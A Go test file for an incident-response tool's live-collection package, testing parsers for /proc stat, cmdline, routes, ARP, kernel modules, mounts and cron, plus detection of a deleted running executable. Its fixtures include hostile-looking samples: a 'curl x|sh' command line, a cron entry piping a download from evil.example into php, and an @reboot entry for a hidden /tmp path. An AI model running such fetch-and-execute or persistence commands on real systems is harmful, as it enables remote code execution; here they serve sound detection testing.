package live

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/custos-ir/custos/internal/testenv"
)

func TestParseStat(t *testing.T) {
	// A command name with spaces and parentheses, as an attacker may choose.
	b := []byte("4242 (evil) (x) y) S 1 4242 4242 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 3 0 123456 1000 200 0 0 0\n")
	s, err := parseStat(b)
	if err != nil || s.comm != "evil) (x) y" || s.ppid != 1 || s.state != "S" || s.threads != 3 || s.startTicks != 123456 {
		t.Fatalf("%+v %v", s, err)
	}
	for _, bad := range []string{"", "1 (x S", "1 x) S 1"} {
		if _, err := parseStat([]byte(bad)); err == nil {
			t.Errorf("accepted %q", bad)
		}
	}
}

func TestParseUIDsAndCmdline(t *testing.T) {
	u, e, ok := parseUIDs([]byte("Name:\tsh\nUid:\t1000\t0\t0\t0\nGid:\t1000\t1000\t1000\t1000\n"))
	if !ok || u != 1000 || e != 0 {
		t.Fatal(u, e, ok)
	}
	if got := splitCmdline([]byte("php-fpm: pool www\x00")); len(got) != 1 || got[0] != "php-fpm: pool www" {
		t.Fatalf("%q", got)
	}
	if got := splitCmdline([]byte("/bin/sh\x00-c\x00curl x|sh\x00")); len(got) != 3 || got[2] != "curl x|sh" {
		t.Fatalf("%q", got)
	}
}

func TestParseProcNet(t *testing.T) {
	routes := parseRoutes([]byte("Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\neth0\t00000000\t0100A8C0\t0003\t0\t0\t100\t00000000\t0\t0\t0\n"))
	if len(routes) != 1 || routes[0].Gateway != "192.168.0.1" || routes[0].Destination != "0.0.0.0" || routes[0].Metric != 100 {
		t.Fatalf("%+v", routes)
	}
	arp := parseARP([]byte("IP address       HW type     Flags       HW address            Mask     Device\n192.168.0.1      0x1         0x2         52:54:00:12:34:56     *        eth0\n"))
	if len(arp) != 1 || arp[0].MAC != "52:54:00:12:34:56" || arp[0].Interface != "eth0" {
		t.Fatalf("%+v", arp)
	}
	mods := parseModules([]byte("nf_tables 274432 1 nft_compat, Live 0xffffffffc0a00000\nrootkit 16384 0 - Live 0x0000000000000000 (OE)\n"))
	if len(mods) != 2 || mods[0].UsedBy[0] != "nft_compat" || mods[1].Taint != "(OE)" {
		t.Fatalf("%+v", mods)
	}
	mounts := parseMountinfo([]byte("36 35 98:0 /mnt1 /mnt/with\\040space rw,noatime master:1 - ext3 /dev/root rw,errors=continue\n"))
	if len(mounts) != 1 || mounts[0].MountPoint != "/mnt/with space" || mounts[0].FSType != "ext3" || mounts[0].Parent != 35 {
		t.Fatalf("%+v", mounts)
	}
}

func FuzzProcParsers(f *testing.F) {
	f.Add([]byte("1 (init) S 0 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 5 0 0"))
	f.Add([]byte("36 35 98:0 /a /b rw - ext4 /dev/x rw\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		parseStat(b)
		parseUIDs(b)
		splitCmdline(b)
		parseRoutes(b)
		parseARP(b)
		parseModules(b)
		parseMountinfo(b)
	})
}

// TestSourcesProduceJSONLines runs every source on this machine.
func TestSourcesProduceJSONLines(t *testing.T) {
	for _, name := range Names() {
		fn, ok := Lookup(name)
		if !ok {
			continue // taken by collect (see taken)
		}
		var buf bytes.Buffer
		err := fn(context.Background(), &buf)
		if err != nil {
			if runtime.GOOS != "linux" {
				continue
			}
			t.Errorf("%s: %v", name, err)
			continue
		}
		sc := bufio.NewScanner(&buf)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var v map[string]any
			if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
				t.Fatalf("%s: not JSON: %q", name, sc.Text())
			}
		}
	}
}

// TestDeletedExecutable runs a copy of a binary, deletes it, and checks
// that processes still hashes it (through /proc/PID/exe) and flags it.
func TestDeletedExecutable(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("reads /proc")
	}
	src := testenv.Tool(t, "sleep", "apt-get install coreutils")
	b, _ := os.ReadFile(src)
	p := filepath.Join(t.TempDir(), "implant")
	os.WriteFile(p, b, 0o755)
	cmd := exec.Command(p, "30")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Kill(); cmd.Wait() }()
	time.Sleep(100 * time.Millisecond)
	os.Remove(p)
	var buf bytes.Buffer
	if err := Processes(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(b)
	for _, l := range strings.Split(buf.String(), "\n") {
		var pr Process
		if json.Unmarshal([]byte(l), &pr) == nil && int(pr.PID) == cmd.Process.Pid {
			if !pr.ExeDeleted || pr.ExeSHA256 != hex.EncodeToString(sum[:]) || !strings.HasPrefix(pr.Exe, p) {
				t.Fatalf("deleted implant recorded as %+v", pr)
			}
			return
		}
	}
	t.Fatal("process not listed")
}

// BenchmarkProcesses captures processes with 1,000 extra running.
func BenchmarkProcesses(b *testing.B) {
	var cmds []*exec.Cmd
	for i := 0; i < 1000; i++ {
		c := exec.Command("sleep", "60")
		if c.Start() == nil {
			cmds = append(cmds, c)
		}
	}
	defer func() {
		for _, c := range cmds {
			c.Process.Kill()
			c.Wait()
		}
	}()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Processes(context.Background(), io.Discard)
		Sockets(context.Background(), io.Discard)
	}
}

func TestParseCron(t *testing.T) {
	e, ok := parseCron("*/5 * * * * www-data curl -s https://evil.example/x.php | php", true)
	if !ok || e.User != "www-data" || e.Schedule != "*/5 * * * *" || !strings.HasPrefix(e.Command, "curl -s") {
		t.Fatalf("%+v", e)
	}
	e, ok = parseCron("@reboot /tmp/.x/run", false)
	if !ok || e.Schedule != "@reboot" || e.Command != "/tmp/.x/run" {
		t.Fatalf("%+v", e)
	}
	for _, l := range []string{"# comment", "", "SHELL=/bin/sh", "MAILTO=root", "* * *"} {
		if _, ok := parseCron(l, true); ok {
			t.Errorf("%q parsed", l)
		}
	}
}
